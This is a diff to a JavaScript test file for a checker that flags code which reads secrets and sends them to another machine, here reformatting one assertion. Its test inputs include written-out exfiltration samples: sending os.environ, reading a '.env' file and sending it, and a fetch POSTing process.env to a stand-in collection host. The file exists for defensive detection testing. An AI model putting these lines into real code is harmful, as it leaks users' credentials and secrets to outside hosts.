@@ -15,9 +15,7 @@ test('secrets that are read where something is sent to another machine are an er
 	]);
 	assert.deepEqual(acts(`env = dict(os.environ)\n${send}{'e': env})\n`), [['error', 'credentials', 'env = dict(os.environ)']]);
 	assert.deepEqual(acts(`${send}dict(os.environ))\n`), [['error', 'credentials', 'json=dict(os.environ']]);
-	assert.deepEqual(acts("text = open('.env').read()\n" + `${send}{'s': text})\n`), [
-		['error', 'credentials', "text = open('.env').read()"],
-	]);
+	assert.deepEqual(acts(`text = open('.env').read()\n${send}{'s': text})\n`), [['error', 'credentials', "text = open('.env').read()"]]);
 	assert.deepEqual(acts("fetch('https://collect.example.net', { method: 'POST', body: JSON.stringify(process.env) });\n"), [
 		['error', 'credentials', 'JSON.stringify(process.env'],
 	]);
